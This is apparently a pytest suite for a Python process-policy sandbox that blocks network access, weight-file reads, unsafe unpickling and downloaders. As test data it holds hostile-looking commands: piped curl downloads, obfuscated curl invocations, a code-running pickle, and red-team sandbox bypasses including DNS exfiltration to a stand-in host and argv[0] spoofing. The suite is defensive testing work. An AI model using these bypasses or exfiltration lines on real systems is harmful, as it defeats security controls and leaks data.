"""The process policy's hooks (guards/process_policy.py), each class of refusal and what stays allowed, in fresh
interpreters (audit hooks cannot be removed once added, and a refusal ends the process).

Each case runs `python -c` with the policy installed and sealed as `oracle serve` or `oracle train` would, in a
temporary working directory whose `.oracle/audit.jsonl` receives the refusal."""

from __future__ import annotations

import io
import json
import os
import pickle
import shutil
import socket
import subprocess
import sys
import textwrap
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import numpy as np
import pytest
import torch
from safetensors.torch import save_file

from guards.process_policy import (
    HUB_STAGING,
    OFFLINE_ENV,
    ProcessPolicy,
    ProcessPolicyError,
    denied_program,
    gated_command,
    policy_for,
)
from hub.stage import DEFAULT_OUT

REPO = Path(__file__).resolve().parents[2]
PREAMBLE = """
import sys
from pathlib import Path
sys.path.insert(0, {repo!r})
from guards.process_policy import ProcessPolicy, install, allow_and_seal
policy = install(ProcessPolicy({command!r}, Path.cwd()))
allow_and_seal(read_roots={roots!r}, read_files={files!r}, endpoints={endpoints!r})
"""


def run(
    tmp_path: Path,
    code: str,
    *,
    command: str = "serve",
    roots: list[str] | None = None,
    files: list[str] | None = None,
    endpoints: list[tuple[str, int]] | None = None,
) -> subprocess.CompletedProcess[str]:
    preamble = PREAMBLE.format(repo=str(REPO), command=command, roots=roots or [], files=files or [],
                               endpoints=endpoints or [])  # fmt: skip
    return subprocess.run(
        [sys.executable, "-c", preamble + textwrap.dedent(code)],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=180,
    )


def refused(done: subprocess.CompletedProcess[str], tmp_path: Path, *expected: str) -> dict[str, object]:
    """Exit 1, one refusal line on stderr naming `expected`, and the audit entry (returned)."""
    assert done.returncode == 1, done.stdout + done.stderr
    lines = [line for line in done.stderr.splitlines() if "refused by the process policy" in line]
    assert len(lines) == 1, done.stderr
    for text in expected:
        assert text in lines[0], lines[0]
    entries = [json.loads(line) for line in (tmp_path / ".oracle" / "audit.jsonl").read_text().splitlines()]
    assert [(e["gate"], e["result"]) for e in entries] == [("runtime", "refused")]
    details: dict[str, object] = entries[0]["details"]
    return details


def allowed(done: subprocess.CompletedProcess[str], tmp_path: Path) -> None:
    assert done.returncode == 0, done.stdout + done.stderr
    assert "refused" not in done.stderr
    assert not (tmp_path / ".oracle" / "audit.jsonl").exists()


@pytest.fixture
def local_server() -> Iterator[str]:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.end_headers()

        def log_message(self, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()


# --- network ------------------------------------------------------------------------------------------------------
def test_a_connection_to_an_address_the_command_does_not_need_is_refused(tmp_path: Path, local_server: str) -> None:
    host, port = local_server.split(":")
    done = run(tmp_path, f"import urllib.request; urllib.request.urlopen('http://{local_server}/x', timeout=5)")
    details = refused(done, tmp_path, f"connecting to {local_server}")
    assert (details["host"], details["port"], details["command"]) == (host, int(port), "serve")


def test_resolving_a_host_the_command_does_not_need_is_refused_before_any_packet(tmp_path: Path) -> None:
    done = run(tmp_path, "import socket; socket.getaddrinfo('hub.example.invalid', 443)")
    assert refused(done, tmp_path, "resolving hub.example.invalid")["host"] == "hub.example.invalid"


def test_udp_datagrams_are_judged_like_connections(tmp_path: Path) -> None:
    done = run(
        tmp_path, "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('192.0.2.1', 53))"
    )
    refused(done, tmp_path, "connecting to 192.0.2.1:53")


def test_a_declared_endpoint_is_reachable_and_only_on_its_port(tmp_path: Path, local_server: str) -> None:
    host, port = local_server.split(":")
    code = f"import urllib.request; urllib.request.urlopen('http://{local_server}/x', timeout=5).read()"
    allowed(run(tmp_path, code, endpoints=[(host, int(port))]), tmp_path)
    refused(run(tmp_path, code, endpoints=[(host, int(port) + 1)]), tmp_path, f"connecting to {local_server}")


def test_listening_and_unix_sockets_stay_allowed(tmp_path: Path) -> None:
    code = """
    import socket
    server = socket.create_server(("127.0.0.1", 0))
    left, right = socket.socketpair()
    left.sendall(b"ok"); assert right.recv(2) == b"ok"
    """
    allowed(run(tmp_path, code), tmp_path)


# --- weight files ---------------------------------------------------------------------------------------------------
def _weights(tmp_path: Path) -> dict[str, Path]:
    folder = tmp_path / "files"
    folder.mkdir()
    save_file({"w": torch.ones(4, 4)}, str(folder / "model.safetensors"))
    torch.save({"w": torch.ones(4, 4)}, folder / "renamed.txt")  # a zip archive of torch.save under a harmless name
    (folder / "weights.pkl").write_bytes(pickle.dumps({"layer.weight": [0.5] * 64, "layer.bias": [0.1] * 8}))
    np.save(folder / "array.npy", np.ones((2048, 2049), dtype=np.float32))  # model-sized: weights for its size
    (folder / "notes.txt").write_text("not weights\n")
    return {path.name: path for path in folder.iterdir()}


@pytest.mark.parametrize(
    ("code", "name"),
    [
        ("from safetensors.torch import load_file; load_file({path!r})", "model.safetensors"),
        ("from safetensors import safe_open; safe_open({path!r}, 'pt')", "model.safetensors"),
        ("import torch; torch.load({path!r}, weights_only=True)", "renamed.txt"),
        ("import pickle; pickle.load(open({path!r}, 'rb'))", "weights.pkl"),
        ("import numpy; numpy.load({path!r})", "array.npy"),
        ("import os; os.read(os.open({path!r}, os.O_RDONLY), 10)", "model.safetensors"),
    ],
    ids=["safetensors", "safe_open", "torch-zip-renamed", "pickle", "numpy", "os.open"],
)
def test_a_weights_file_outside_what_the_command_may_read_is_refused_by_content(
    tmp_path: Path, code: str, name: str
) -> None:
    path = _weights(tmp_path)[name]
    details = refused(run(tmp_path, code.format(path=str(path))), tmp_path, f"opening {path}")
    assert details["file"] == str(path)


def test_weights_the_command_may_read_and_other_files_are_allowed(tmp_path: Path) -> None:
    files = _weights(tmp_path)
    code = f"""
    from safetensors.torch import load_file
    import torch
    load_file({str(files["model.safetensors"])!r})
    torch.load({str(files["renamed.txt"])!r}, weights_only=True)
    open({str(files["notes.txt"])!r}).read()
    with open({str(tmp_path / "written.safetensors")!r}, "wb") as out:  # writing is never refused
        out.write(b"x")
    """
    allowed(
        run(tmp_path, code, files=[str(files["model.safetensors"])], roots=[str(files["renamed.txt"].parent)]), tmp_path
    )


# --- unpickling -----------------------------------------------------------------------------------------------------
class _RunsCode:
    """Unpickling it calls os.mkdir: what a malicious pickle does with its own globals."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (os.mkdir, (self.path,))


def test_torch_load_without_weights_only_uses_the_weights_only_unpickler(tmp_path: Path) -> None:
    """DeepSpeed asks for weights_only=False: plain state still loads, a pickle's own code never runs, whatever the
    file (here one the command may read as weights)."""
    run_dir = tmp_path / "runs" / "r"
    run_dir.mkdir(parents=True)
    torch.save({"w": torch.ones(2)}, run_dir / "state.pt")
    marker = tmp_path / "code-ran"
    torch.save({"w": _RunsCode(str(marker))}, run_dir / "evil.pt")
    code = f"""
    import torch
    assert torch.load({str(run_dir / "state.pt")!r}, weights_only=False)["w"].tolist() == [1.0, 1.0]
    torch.load(open({str(run_dir / "state.pt")!r}, "rb"), weights_only=False)
    try:
        torch.load({str(run_dir / "evil.pt")!r}, weights_only=False)
    except Exception as exc:
        print(type(exc).__name__, str(exc).splitlines()[0])
    """
    done = run(tmp_path, code, command="train", roots=[str(run_dir)])
    allowed(done, tmp_path)
    assert done.stdout.startswith("UnpicklingError Weights only load failed")
    assert not marker.exists()


@pytest.mark.parametrize("where", ["bytes", "checkpoint", "venv"])
def test_switching_the_weights_only_unpickler_off_is_refused(tmp_path: Path, where: str) -> None:
    """Code that unsets TORCH_FORCE_WEIGHTS_ONLY_LOAD reaches the full unpickler: refused before it runs, for bytes
    and for files the command may read (a checkpoint being served, the venv) alike."""
    folder = Path(sys.prefix) / f"planted-{os.getpid()}" if where == "venv" else tmp_path / "ckpt"
    folder.mkdir()
    try:
        torch.save({"w": torch.ones(2)}, folder / "state.pt")
        source = (
            f"io.BytesIO(bytes.fromhex({(folder / 'state.pt').read_bytes().hex()!r}))"
            if where == "bytes"
            else repr(str(folder / "state.pt"))
        )
        code = f"""
        import io, os, torch
        os.environ.pop("TORCH_FORCE_WEIGHTS_ONLY_LOAD")
        torch.load({source}, weights_only=False)
        """
        details = refused(run(tmp_path, code, roots=[str(folder)]), tmp_path, "without weights_only=True")
        expected = "a BytesIO" if where == "bytes" else os.path.realpath(folder / "state.pt")
        assert details["file"] == expected
    finally:
        shutil.rmtree(folder)


# --- programs -------------------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "code",
    [
        "import subprocess; subprocess.run(['pip', 'install', 'x'])",
        "import subprocess; subprocess.run('cd /tmp && curl -sL https://example.invalid/w | tar x', shell=True)",
        "import subprocess; subprocess.run([sys.executable, '-m', 'pip', 'install', 'x'])",
        "import os; os.system('env HF_HUB_OFFLINE=0 huggingface-cli download org/model')",
        "import os; os.execvp('git', ['git', '-C', '/tmp', 'clone', 'https://example.invalid/m'])",
        "import os; os.posix_spawn('/usr/bin/wget', ['wget', 'https://example.invalid/w'], {})",
    ],
    ids=["pip", "shell-curl", "python-m-pip", "env-huggingface-cli", "git-clone", "posix_spawn-wget"],
)
def test_installers_and_downloaders_are_not_started(tmp_path: Path, code: str) -> None:
    done = run(tmp_path, code)
    details = refused(done, tmp_path, "package installers and downloaders do not run")
    assert details["program"]


def test_other_programs_start(tmp_path: Path) -> None:
    code = """
    import subprocess
    subprocess.run(["git", "--version"], check=True)
    subprocess.run("echo ok | cat", shell=True, check=True)
    """
    allowed(run(tmp_path, code), tmp_path)


@pytest.mark.parametrize(
    ("argv", "found"),
    [
        (["pip3.11", "install", "x"], True),
        (["/usr/bin/env", "-i", "A=1", "uv", "pip", "install", "x"], True),
        (["bash", "-lc", "echo hi; $(curl x)"], True),
        (["sh", "-c", "python3 -m huggingface_hub.commands.huggingface_cli download x"], True),
        (["timeout", "30", "wget", "x"], True),
        (["git", "rev-parse", "HEAD"], False),
        (["python3", "-X", "utf8", "-W", "ignore", "-m", "pip", "install", "x"], True),
        (["nice", "-n", "5", "curl", "x"], True),  # wrappers with option values
        (["timeout", "-s", "KILL", "5", "wget", "x"], True),
        (["setsid", "flock", "/tmp/l", "busybox", "wget", "x"], True),
        (["git", "-c", "alias.get=clone", "get", "https://example.invalid/m"], True),
        (["bash", "-c", "--", "curl x"], True),
        (["sh", "-c", "c=cu; ${c}rl x"], True),  # a program name assembled at run time
        (["sh", "-c", "$'\\x63url' x"], True),
        (["sh", "-c", "if true; then { wget x; }; fi"], True),
        (["sh", "-c", "echo curl x | sh"], True),  # a shell reading its commands from a pipe
        (["sh", "-c", 'eval "$CMD"'], True),
        (["git", "remote", "-v"], False),
        (["python3", "script.py", "--flag"], False),
        (["scontrol", "show", "job", "1"], False),
        ("echo 'pip install is a phrase here'", False),
    ],
)
def test_denied_program_sees_through_shells_and_wrappers(argv: list[str] | str, found: bool) -> None:
    assert (denied_program(argv) is not None) is found


# --- set-up ---------------------------------------------------------------------------------------------------------
def test_gated_commands_and_their_start_up_policy(tmp_path: Path) -> None:
    assert gated_command(["train", "--config", "x"]) == "train"
    assert gated_command(["data", "run", "--input", "a"]) == "data run"
    assert gated_command(["hub", "publish", "--repo-id", "a/b"]) == "hub publish"
    assert gated_command(["guards", "run"]) is None
    environ = {"MASTER_ADDR": "127.0.0.1", "MASTER_PORT": "29500", "KUBERNETES_SERVICE_HOST": "10.96.0.1"}
    train = policy_for("train", [], environ, tmp_path)
    assert train.address_allowed("127.0.0.1", 29500)
    assert not train.address_allowed("127.0.0.1", 8080)
    assert train.address_allowed("10.96.0.1", 443)
    data = policy_for("data run", ["--input", "https://data.example.invalid:8443/a.jsonl"], {}, tmp_path)
    assert data.endpoints == {("data.example.invalid", 8443)}
    # the pipeline's stages: init names its inputs on the command line, the later stages read them from the plan
    assert gated_command(["data", "stage", "prepare", "--work", "w"]) == "data stage"
    work = tmp_path / "work"
    work.mkdir()
    (work / "run.json").write_text(json.dumps({"inputs": ["https://corpus.example.invalid/a.jsonl", "/local/b.txt"]}))
    stage = policy_for("data stage", ["prepare", "--work", str(work), "--task", "0"], {}, tmp_path)
    assert stage.endpoints == {("corpus.example.invalid", 443)}
    assert not policy_for("data stage", ["prepare", "--work", str(tmp_path / "none")], {}, tmp_path).endpoints
    publish = policy_for(
        "hub publish", ["--endpoint", "http://127.0.0.1:9000", "--staged", str(tmp_path)], {}, tmp_path
    )
    assert publish.may_read_weights(str(tmp_path.resolve() / "model.safetensors"))
    assert publish.may_read_weights(str(tmp_path.resolve() / ".oracle" / "hub" / ".staged-x" / "model.safetensors"))
    assert DEFAULT_OUT.parent == HUB_STAGING  # the folder hub.stage copies what it publishes into
    assert publish.address_allowed("127.0.0.1", 9000)
    assert not publish.address_allowed("127.0.0.1", 9001)


def test_a_sealed_policy_cannot_be_widened() -> None:
    policy = ProcessPolicy("serve", Path("."))
    policy.seal()
    with pytest.raises(ProcessPolicyError):
        policy.allow(hosts=["hub.example.invalid"])


def test_the_oracle_command_installs_it_before_anything_else(tmp_path: Path) -> None:
    """`oracle data run` (a gated command): the Hub clients' switches are set and a download from the pipeline's
    process is refused, although `--input` names a local file."""
    (tmp_path / "in.jsonl").write_text(json.dumps({"text": "hello"}) + "\n")
    code = f"""
    import os, sys
    sys.argv = ["oracle", "data", "run", "--input", {str(tmp_path / "in.jsonl")!r}, "--output", "out"]
    sys.path.insert(0, {str(REPO)!r})
    from guards.process_policy import install_for_argv, current
    install_for_argv(sys.argv[1:])
    assert current().command == "data run"
    assert all(os.environ[key] == value for key, value in {OFFLINE_ENV!r}.items())
    import socket
    socket.create_connection(("127.0.0.1", 9), timeout=2)
    """
    done = subprocess.run([sys.executable, "-c", textwrap.dedent(code)], cwd=tmp_path, capture_output=True, text=True)
    refused(done, tmp_path, "oracle data run: RUN004 refused", "connecting to 127.0.0.1:9")
    assert socket.gethostname()  # the test's own process is unaffected


# --- what a red team found and is now refused (2026-12-05) ------------------------------------------------------------
BYPASSES = {
    "socket family spoofed by a subclass": """
        import socket
        class S(socket.socket):
            family = property(lambda self: socket.AF_UNIX)
        S().connect(("127.0.0.1", 9))
    """,
    "str subclass shows the check another host": """
        import socket
        class H(str):
            def __str__(self): return "10.96.0.1"
        socket.socket().connect((H("127.0.0.1"), 9))
    """,
    "os._exit rebound to carry on after a refusal": """
        import os, socket
        os._exit = lambda code: None
        socket.socket().connect(("127.0.0.1", 9))
        print("went on")
    """,
    "reverse lookup as a DNS query": "import socket; socket.gethostbyaddr('secret-data.exfil.example.invalid')",
    "raw packet socket": "import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)",
    "subinterpreter without hooks": "import _xxsubinterpreters as interpreters; interpreters.create()",
    "host name changed to widen the allowance": "import socket; socket.sethostname('data.exfil.example.invalid')",
    "curl started under another argv[0]": "import subprocess; subprocess.run(['ls', '-V'], executable='/usr/bin/curl')",
    "curl through os.execv with another argv[0]": "import os; os.execv('/usr/bin/curl', ['ls', '-V'])",
}


@pytest.mark.parametrize("name", sorted(BYPASSES))
def test_bypasses_found_by_the_red_team_are_refused(tmp_path: Path, name: str) -> None:
    done = run(tmp_path, BYPASSES[name])
    refused(done, tmp_path)
    assert "went on" not in done.stdout


def _foreign(tmp_path: Path) -> Path:
    save_file({"w": torch.ones(4, 4)}, str(tmp_path / "foreign.safetensors"))
    return tmp_path / "foreign.safetensors"


@pytest.mark.parametrize(
    "code",
    [
        "open({path!r}, 'r+b').read()",
        "import os; os.read(os.open({path!r}, os.O_RDONLY | os.O_APPEND), 10)",
        "import os; os.read(os.open({path!r}, os.O_RDWR), 10)",
        "import os; d = os.open(os.path.dirname({path!r}), os.O_RDONLY)\n"
        "os.open('foreign.safetensors', os.O_RDONLY, dir_fd=d)",
        "import os; os.makedirs('run', exist_ok=True); os.link({path!r}, 'run/x.safetensors')",
        "import os; os.makedirs('run', exist_ok=True); os.rename({path!r}, 'run/x.safetensors')",
        "import torch; torch.UntypedStorage.from_file({path!r}, False, 16)",
    ],
    ids=["r+b", "O_APPEND", "O_RDWR", "dir_fd", "hard-link-into-run", "rename-into-run", "from_file"],
)
def test_weights_reached_around_the_open_check_are_refused(tmp_path: Path, code: str) -> None:
    path = _foreign(tmp_path)
    done = run(tmp_path, ("import torch\n" if "torch" in code else "") + code.format(path=str(path)),
               roots=[str(tmp_path / "run")])  # fmt: skip
    assert refused(done, tmp_path)["format"] == "safetensors"


def test_a_file_rewritten_in_place_with_its_mtime_put_back_is_judged_again(tmp_path: Path) -> None:
    weights = _foreign(tmp_path).read_bytes()
    code = f"""
    import os
    path = "decoy.bin"
    with open(path, "wb") as out:
        out.write(b"x" * {len(weights)})
    stamp = os.stat(path).st_mtime_ns
    open(path, "rb").read()  # judged: not weights (cached)
    with open(path, "r+b") as out:
        out.write(bytes.fromhex({weights.hex()!r}))
    os.utime(path, ns=(stamp, stamp))
    open(path, "rb").read()
    """
    refused(run(tmp_path, code), tmp_path, "decoy.bin")


def test_torch_load_without_weights_only_is_judged_before_unpickling(tmp_path: Path) -> None:
    """A pickle_module whose Unpickler raises no find_class event, and a file object of a foreign file."""
    buffer = io.BytesIO()
    torch.save({"w": torch.ones(2)}, buffer)
    code = f"""
    import io, os, pickle, torch
    os.environ.pop("TORCH_FORCE_WEIGHTS_ONLY_LOAD")
    class Unpickler(pickle._Unpickler):
        pass
    module = type("m", (), {{"Unpickler": Unpickler, "load": pickle.load, "__name__": "m"}})
    torch.load(io.BytesIO(bytes.fromhex({buffer.getvalue().hex()!r})), weights_only=False, pickle_module=module)
    """
    details = refused(run(tmp_path, code, command="train"), tmp_path, "without weights_only=True")
    assert "BytesIO" in str(details["file"])


def test_connecting_by_name_to_a_declared_endpoint_is_allowed(tmp_path: Path, local_server: str) -> None:
    _, port = local_server.split(":")
    code = f"import socket; socket.create_connection(('localhost', {port}), timeout=5).close()"
    allowed(run(tmp_path, code, endpoints=[("localhost", int(port))]), tmp_path)


def test_help_anywhere_on_the_command_line_is_no_exemption() -> None:
    code = f"""
    import sys
    sys.path.insert(0, {str(REPO)!r})
    from guards.process_policy import install_for_argv, current
    install_for_argv(["train", "--config", "r.yaml", "--run-name", "--help"])
    assert current() is not None and current().command == "train"
    """
    done = subprocess.run([sys.executable, "-c", textwrap.dedent(code)], capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
